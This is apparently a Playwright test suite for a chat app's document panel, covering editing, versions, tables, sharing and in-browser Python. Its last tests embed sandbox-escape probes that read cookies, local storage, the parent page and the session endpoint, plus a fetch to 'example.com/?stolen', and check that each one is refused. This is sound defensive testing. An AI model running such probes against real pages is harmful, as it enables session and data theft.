"""Documents beside the chat: written, edited, kept, compared, gone back to, run."""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import APIResponse, Browser, Frame, Page, Route, expect

from raylm_apps.gateway.embedded import StoreUrls
from tests.apps.gateway.harness import GatewayProcess, environment
from tests.browser.conftest import OpenPage
from tests.browser.pages.artifact import MODEL, Artifact
from tests.browser.pages.chat import ChatPage
from tests.browser.visitors import Visitors

PHONE = {"viewport": {"width": 390, "height": 844}, "has_touch": True}
ESSAY = "Write an essay about bread"
PROGRAM = "Write a program about squares"
TABLE = "Write a table of months"
PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
    "AAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
PLOT = f"""
import base64, sys, types

class Figure:
    def savefig(self, file, **options):
        file.write(base64.b64decode("{PIXEL}"))

pyplot = types.ModuleType("matplotlib.pyplot")
pyplot.get_fignums = lambda: [1]
pyplot.figure = lambda number: Figure()
pyplot.close = lambda which: None
sys.modules["matplotlib"] = types.ModuleType("matplotlib")
sys.modules["matplotlib"].pyplot = sys.modules["matplotlib.pyplot"] = pyplot
"""
"""Draws one figure, with as much of matplotlib as is used to show it."""
PYODIDE = Path(__file__).parents[2] / "apps/web/node_modules/pyodide"


@pytest.fixture
def artifact(chat: ChatPage) -> Artifact:
    return Artifact(chat)


class TestTheTemplatesOwn:
    """The three behaviours that vercel/ai-chatbot's artifact tests name."""

    def test_a_text_is_created(self, artifact: Artifact) -> None:
        artifact.ask_for(ESSAY)
        expect(artifact.panel).to_be_visible()
        expect(artifact.text.get_by_role("heading", name=ESSAY)).to_be_visible()
        assert "/chat/" in artifact.chat.page.url

    def test_the_panel_is_toggled(self, artifact: Artifact) -> None:
        artifact.ask_for(ESSAY)
        artifact.close_button.click()
        expect(artifact.panel).to_be_hidden()
        artifact.card.click()
        expect(artifact.panel).to_be_visible()
        expect(artifact.card).to_have_attribute("aria-expanded", "true")
        artifact.card.click()
        expect(artifact.panel).to_be_hidden()

    def test_a_question_follows_while_it_is_open(self, artifact: Artifact) -> None:
        artifact.ask_for(ESSAY)
        artifact.follow_up("Is it good?")
        artifact.chat.wait_for_answer("About the document: Is it good?")
        expect(artifact.panel).to_be_visible()


def test_a_program_is_written_with_its_colours(artifact: Artifact) -> None:
    artifact.ask_for(PROGRAM)
    expect(artifact.code).to_contain_text("def squares(count):")
    colours = artifact.code.evaluate(
        """code => new Set([...code.querySelectorAll('span')]
        .map(span => getComputedStyle(span).color)).size"""
    )
    assert colours >= 3


def test_it_opens_by_itself_and_leaves_the_focus(artifact: Artifact) -> None:
    artifact.chat.ask("Write a long essay about bread", MODEL)
    artifact.chat.input.focus()
    expect(artifact.panel).to_be_visible(timeout=20_000)
    expect(artifact.chat.input).to_be_focused()
    artifact.wait_until_written()
    expect(artifact.chat.input).to_be_focused()


def test_it_is_shown_while_it_is_written_and_kept_when_stopped(artifact: Artifact) -> None:
    artifact.chat.ask("Write an endless essay about bread", MODEL)
    expect(artifact.panel).to_be_visible(timeout=20_000)
    expect(artifact.text).to_contain_text("Paragraph 6")
    expect(artifact.status).to_have_text("Being written…")
    expect(artifact.card).to_contain_text("Working on it…")
    expect(artifact.text).not_to_have_attribute("contenteditable", "true")
    artifact.chat.stop_button.click()
    expect(artifact.status).to_have_text("Saved")
    expect(artifact.text).to_contain_text("Paragraph 6")
    expect(artifact.text).to_have_attribute("contenteditable", "true")


def test_an_edited_text_is_stored_by_itself(artifact: Artifact) -> None:
    artifact.ask_for(ESSAY)
    artifact.text.get_by_role("heading").click()
    artifact.chat.page.keyboard.press("End")
    artifact.chat.page.keyboard.type(" and **salt**")
    expect(artifact.status).to_have_text("Unsaved changes")
    expect(artifact.status).to_have_text("Saved")
    artifact.chat.page.reload()
    artifact.card.click()
    heading = artifact.text.get_by_role("heading", name=f"{ESSAY} and salt")
    expect(heading.locator("strong")).to_have_text("salt")
    expect(artifact.version).to_be_hidden()


def test_an_edit_is_not_lost_by_leaving(artifact: Artifact) -> None:
    artifact.ask_for(PROGRAM)
    artifact.code.click()
    artifact.chat.page.keyboard.press("Control+End")
    artifact.chat.page.keyboard.type("\nprint('kept')")
    artifact.close_button.click()
    artifact.card.click()
    expect(artifact.code).to_contain_text("print('kept')")
    artifact.chat.page.reload()
    artifact.card.click()
    expect(artifact.code).to_contain_text("print('kept')")


def test_an_edit_beside_another_is_a_version_of_its_own(artifact: Artifact) -> None:
    artifact.ask_for(ESSAY)
    page = artifact.chat.page
    document = document_of(page)
    page.request.post(
        f"/api/document?id={document['id']}",
        data={"title": ESSAY, "kind": "text", "content": "# From elsewhere"},
    )
    artifact.text.get_by_role("heading").click()
    page.keyboard.type("Mine ")
    expect(artifact.panel.get_by_role("alert")).to_contain_text("changed elsewhere")
    expect(artifact.version).to_have_text("Version 3 of 3")
    artifact.button("Previous version").click()
    expect(artifact.text.get_by_role("heading", name="From elsewhere")).to_be_visible()


def test_versions_are_compared_and_gone_back_to(artifact: Artifact) -> None:
    artifact.ask_for(ESSAY)
    artifact.button("Final polish").click()
    expect(artifact.chat.questions).to_have_count(2)
    expect(artifact.version).to_have_text("Version 2 of 2", timeout=15_000)
    expect(artifact.text).to_contain_text("Revised: Please polish")
    artifact.button("View changes").click()
    expect(artifact.diff.locator("ins").first).to_have_text("quite ")
    expect(artifact.diff.locator("ins").last).to_contain_text("Revised: Please polish")
    artifact.button("Side by side").click()
    expect(artifact.diff).to_contain_text("for a while")
    artifact.button("View changes").click()
    artifact.button("Previous version").click()
    expect(artifact.text).not_to_contain_text("Revised")
    artifact.button("Back to latest").click()
    expect(artifact.text).to_contain_text("Revised")
    artifact.button("Previous version").click()
    artifact.button("Restore this version").click()
    dialog = artifact.chat.page.get_by_role("alertdialog", name="Restore this version?")
    expect(dialog).to_contain_text("The version after it will be deleted for good.")
    dialog.get_by_role("button", name="Restore this version").click()
    expect(artifact.version).to_be_hidden()
    expect(artifact.text).not_to_contain_text("Revised")
    artifact.chat.page.reload()
    artifact.card.first.click()
    expect(artifact.text).to_contain_text("for a while")
    expect(artifact.text).not_to_contain_text("Revised")


def test_what_was_read_while_a_version_was_written_does_not_hide_it(artifact: Artifact) -> None:
    artifact.ask_for(ESSAY)
    page, reads = artifact.chat.page, list[tuple[Route, APIResponse]]()
    page.reload()
    of_a_document = re.compile(r"/api/document\?")
    page.route(of_a_document, lambda route: reads.append((route, route.fetch())), times=1)
    artifact.card.click()
    while not reads:
        page.wait_for_timeout(20)
    artifact.follow_up("Please polish it")
    expect(artifact.chat.answers).to_have_count(2)
    expect(artifact.chat.send_button).to_be_visible()
    read, without_it = reads[0]
    read.fulfill(response=without_it)
    expect(artifact.version).to_have_text("Version 2 of 2")


def test_suggestions_are_applied_and_dismissed(artifact: Artifact) -> None:
    artifact.ask_for(ESSAY)
    artifact.button("Request suggestions").click()
    items = artifact.suggestions.get_by_role("listitem")
    expect(items).to_have_count(2, timeout=15_000)
    marked = artifact.text.locator(".suggested-change")
    expect(marked.first).to_be_visible()
    said = marked.first.inner_text()
    marked.first.click()
    expect(items.first.get_by_role("button", name="Apply")).to_be_focused()
    artifact.chat.page.keyboard.press("Enter")
    expect(items).to_have_count(1)
    expect(artifact.text).to_contain_text(f"In short: {said}")
    items.first.get_by_role("button", name="Dismiss").click()
    expect(artifact.suggestions).to_be_hidden()
    expect(artifact.status).to_have_text("Saved")
    artifact.chat.page.reload()
    artifact.card.first.click()
    expect(artifact.text).to_contain_text(f"In short: {said}")
    expect(artifact.suggestions).to_be_hidden()


def test_a_table_is_edited_by_keyboard(artifact: Artifact) -> None:
    artifact.ask_for(TABLE)
    keyboard = artifact.chat.page.keyboard
    expect(artifact.cell(1, 2)).to_have_text("income")
    artifact.cell(2, 2).click()
    keyboard.type("99")
    keyboard.press("Enter")
    expect(artifact.cell(2, 2)).to_have_text("99")
    expect(artifact.cell(3, 2)).to_be_focused()
    keyboard.press("F2")
    keyboard.type("000")
    keyboard.press("Escape")
    expect(artifact.cell(3, 2)).to_have_text("14")
    expect(artifact.panel).to_be_visible()
    keyboard.press("ArrowRight")
    keyboard.press("Delete")
    expect(artifact.cell(3, 3)).to_have_text("")
    artifact.button("Add row").click()
    artifact.button("Add column").click()
    expect(artifact.sheet).to_have_attribute("aria-rowcount", "15")
    expect(artifact.sheet).to_have_attribute("aria-colcount", "5")
    artifact.button("Delete row").click()
    expect(artifact.status).to_have_text("Saved")
    content = document_of(artifact.chat.page)["content"]
    assert content.splitlines()[:3] == ["month,income,costs,", "Month 1,99,3,", ",,,"]


def test_a_document_is_downloaded_and_copied(artifact: Artifact) -> None:
    artifact.chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    artifact.ask_for(TABLE)
    with artifact.chat.page.expect_download() as download:
        artifact.button("Download").click()
    assert download.value.suggested_filename == "Write-a-table-of-months.csv"
    content = document_of(artifact.chat.page)["content"]
    assert Path(download.value.path()).read_text() == content
    artifact.button("Copy").click()
    expect(artifact.button("Copied")).to_be_visible()
    assert artifact.chat.page.evaluate("navigator.clipboard.readText()") == content


def test_what_the_rich_editor_cannot_keep_is_edited_as_source(artifact: Artifact) -> None:
    artifact.ask_for(ESSAY)
    page = artifact.chat.page
    table = "# Prices\n\n| bread | price |\n|---|---|\n| rye | 3 |\n"
    page.request.post(
        f"/api/document?id={document_of(page)['id']}",
        data={"title": "Prices", "kind": "text", "content": table},
    )
    page.reload()
    artifact.card.click()
    expect(artifact.text.get_by_role("cell", name="rye")).to_be_visible()
    artifact.button("Markdown source").click()
    artifact.code.click()
    page.keyboard.press("Control+End")
    page.keyboard.type("| oat | 4 |")
    expect(artifact.status).to_have_text("Saved")
    artifact.button("Markdown source").click()
    expect(artifact.text.get_by_role("cell", name="oat")).to_be_visible()


def test_an_image_is_shown(artifact: Artifact) -> None:
    artifact.ask_for(ESSAY)
    page = artifact.chat.page
    page.request.post(
        f"/api/document?id={document_of(page)['id']}",
        data={"title": "A dot", "kind": "image", "content": PIXEL},
    )
    page.reload()
    artifact.card.click()
    image = artifact.panel.get_by_role("img", name="A dot")
    expect(image).to_have_js_property("naturalWidth", 1)


def test_the_keyboard_closes_it_and_comes_back(artifact: Artifact) -> None:
    artifact.ask_for(ESSAY)
    page = artifact.chat.page
    artifact.close_button.click()
    artifact.card.focus()
    page.keyboard.press("Enter")
    expect(artifact.panel).to_be_focused()
    separator = page.get_by_role("separator", name="Width of the document")
    before = artifact.panel.bounding_box()
    separator.focus()
    page.keyboard.press("ArrowLeft")
    after = artifact.panel.bounding_box()
    assert before is not None
    assert after is not None
    assert after["width"] > before["width"] + 20
    artifact.text.focus()
    page.keyboard.press("Escape")
    expect(artifact.panel).to_be_hidden()
    expect(artifact.card).to_be_focused()


def test_on_a_phone_it_covers_the_screen(open_page: OpenPage) -> None:
    artifact = Artifact(open_page(**PHONE))
    page = artifact.chat.page
    artifact.ask_for(TABLE)
    assert artifact.panel.bounding_box() == {"x": 0, "y": 0, "width": 390, "height": 844}
    expect(page.get_by_role("dialog", name=f"Document: {TABLE}")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    small = artifact.panel.get_by_role("button").evaluate_all(
        """buttons => buttons.filter(b => b.getBoundingClientRect().height < 40)
        .map(b => b.outerHTML)"""
    )
    assert small == []
    page.keyboard.press("Escape")
    expect(artifact.panel).to_be_hidden()
    artifact.card.click()
    expect(artifact.panel).to_be_visible()
    artifact.close_button.click()
    expect(artifact.chat.input).to_be_visible()


def test_readers_of_a_shared_chat_see_it_and_change_nothing(
    artifact: Artifact, open_page: OpenPage
) -> None:
    artifact.ask_for(ESSAY)
    page = artifact.chat.page
    path = page.url.removeprefix(page.evaluate("location.origin"))
    stranger = Artifact(open_page(path))
    expect(stranger.chat.page.get_by_role("alert")).to_be_visible()
    page.request.patch(f"/api{path}", data={"visibility": "public"})
    stranger.chat.page.reload()
    stranger.card.click()
    expect(stranger.status).to_have_text("Read-only")
    expect(stranger.text).to_contain_text("Paragraph 1 says something")
    expect(stranger.text).not_to_have_attribute("contenteditable", "true")
    expect(stranger.button("Final polish")).to_be_hidden()


def test_run_tells_how_to_add_python_where_it_is_missing(artifact: Artifact) -> None:
    artifact.ask_for(PROGRAM)
    artifact.button("Run").click()
    expect(artifact.python_status).to_contain_text("RAYLM_PYODIDE_DIR")


def test_only_python_is_run(artifact: Artifact) -> None:
    artifact.ask_for("Write code for an html page")
    expect(artifact.code).to_be_visible()
    expect(artifact.button("Run")).to_be_hidden()


@pytest.fixture(scope="module")
def python_gateway(
    stores: StoreUrls, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[GatewayProcess]:
    if not (PYODIDE / "pyodide.mjs").is_file():
        pytest.skip(f"no Pyodide in {PYODIDE}: run `make web`")
    folder = tmp_path_factory.mktemp("python-gateway")
    more = environment(stores, folder, RAYLM_PYODIDE_DIR=str(PYODIDE))
    with GatewayProcess(folder / "log", more) as process:
        yield process


@pytest.fixture
def runner(python_gateway: GatewayProcess, visitors: Visitors) -> Artifact:
    """Where Python is installed. Its attacks fill the console, so nobody listens to that."""
    return Artifact(ChatPage(visitors.open(python_gateway.base_url, is_heard=False)))


def run(artifact: Artifact, code: str) -> None:
    """In place of the program that is there."""
    artifact.code.click()
    artifact.chat.page.keyboard.press("Control+a")
    artifact.chat.page.keyboard.insert_text(code)
    artifact.button("Run").click()


def test_python_runs_is_stopped_and_runs_again(runner: Artifact) -> None:
    runner.ask_for(PROGRAM)
    runner.button("Run").click()
    expect(runner.python_status).to_contain_text("Finished in", timeout=60_000)
    expect(runner.console).to_contain_text("10 numbers, sum 385, largest 100")
    run(runner, "import sys\nprint('again', file=sys.stderr)")
    expect(runner.console).to_have_text("again\n")
    run(runner, PLOT)
    figure = runner.console.get_by_role("img", name="Figure drawn by the program")
    expect(figure).to_have_js_property("naturalWidth", 1)
    run(runner, "while True:\n    pass")
    expect(runner.python_status).to_have_text("Running…")
    runner.button("Stop").click()
    expect(runner.python_status).to_have_text("Stopped")
    run(runner, "print(6 * 7)")
    expect(runner.console).to_have_text("42\n", timeout=60_000)


def test_an_error_is_handed_to_the_model(runner: Artifact) -> None:
    runner.ask_for("Write a broken program")
    runner.button("Run").click()
    expect(runner.python_status).to_have_text("Failed", timeout=60_000)
    expect(runner.console).to_contain_text("ValueError: it is broken")
    expect(runner.console).not_to_contain_text("_pyodide")
    runner.button("Fix error").click()
    expect(runner.chat.questions.last).to_contain_text("ValueError: it is broken")
    expect(runner.version).to_have_text("Version 2 of 2", timeout=15_000)


ATTACKS = """
import js, json
found = {}
def attempt(name, attack):
    try:
        found[name] = str(attack())
    except BaseException as error:
        found[name] = "refused"
attempt("cookie", lambda: js.document.cookie)
attempt("storage", lambda: js.localStorage.length)
attempt("parent", lambda: js.parent.document)
attempt("database", lambda: js.indexedDB.open("x"))
async def reach(name, url):
    try:
        answer = await js.fetch(url)
        found[name] = str(answer.status)
    except BaseException:
        found[name] = "refused"
await reach("session", BASE + "/api/auth/session")
await reach("elsewhere", "https://example.com/?stolen")
found["origin"] = str(js.location.origin)
print(json.dumps(found))
"""


FRAME_ATTACKS = """async base => {
  const attempt = async attack => {
    try { return String(await attack()); } catch (error) { return "refused"; }
  };
  return {
    cookie: await attempt(() => document.cookie),
    storage: await attempt(() => localStorage.length),
    parent: await attempt(() => parent.document.title),
    top: await attempt(() => top.document.title),
    session: await attempt(() => fetch(base + "/api/auth/session").then(a => a.text())),
    elsewhere: await attempt(() => fetch("https://example.com/")),
    popup: await attempt(() => { if (!open("/")) throw new Error("none"); }),
    eval: await attempt(() => new Function("return 1")()),
    escape: await attempt(() => { top.location = "about:blank"; }),
  };
}"""


def test_neither_python_nor_its_frame_reaches_the_page_or_the_gateway(
    runner: Artifact, python_gateway: GatewayProcess
) -> None:
    runner.ask_for(PROGRAM)
    run(runner, f"BASE = {python_gateway.base_url!r}\n{ATTACKS}")
    expect(runner.python_status).to_contain_text("Finished in", timeout=60_000)
    found = json.loads(runner.console.inner_text())
    assert found.pop("origin") == "null"
    assert set(found.values()) == {"refused"}, found
    found = sandbox_of(runner.chat.page).evaluate(FRAME_ATTACKS, python_gateway.base_url)
    assert set(found.values()) == {"refused"}, found
    expect(runner.panel).to_be_visible()


def test_nobody_else_may_embed_the_frame_and_alone_it_is_a_sandbox(
    python_gateway: GatewayProcess, browser: Browser
) -> None:
    page = browser.new_page(base_url=python_gateway.base_url)
    page.goto("/sandbox/frame.html")
    assert page.evaluate("self.origin") == "null"
    page.context.close()


def sandbox_of(page: Page) -> Frame:
    return next(frame for frame in page.frames if "/sandbox/" in frame.url)


def document_of(page: Page) -> dict[str, Any]:
    """The newest version of the document that the chat's first answer has made."""
    chat_id = re.sub(r".*/chat/", "", page.url)
    messages = page.request.get(f"/api/messages?chatId={chat_id}").json()["messages"]
    parts = messages[1]["parts"]
    document_id = next(part["output"]["id"] for part in parts if "output" in part)
    versions: list[dict[str, Any]] = page.request.get(f"/api/document?id={document_id}").json()
    return versions[-1]
